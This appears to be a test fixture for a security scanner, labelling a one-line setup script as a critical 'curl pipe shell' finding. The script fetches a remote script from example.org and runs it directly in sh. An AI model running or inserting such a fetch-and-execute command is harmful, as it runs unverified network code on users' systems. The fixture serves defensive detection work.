# expect: shell.curl_pipe_shell critical
# path: tools/setup.sh
#!/bin/sh
# setup helper
sh -c "$(curl -fsSL https://example.org/i.sh)"
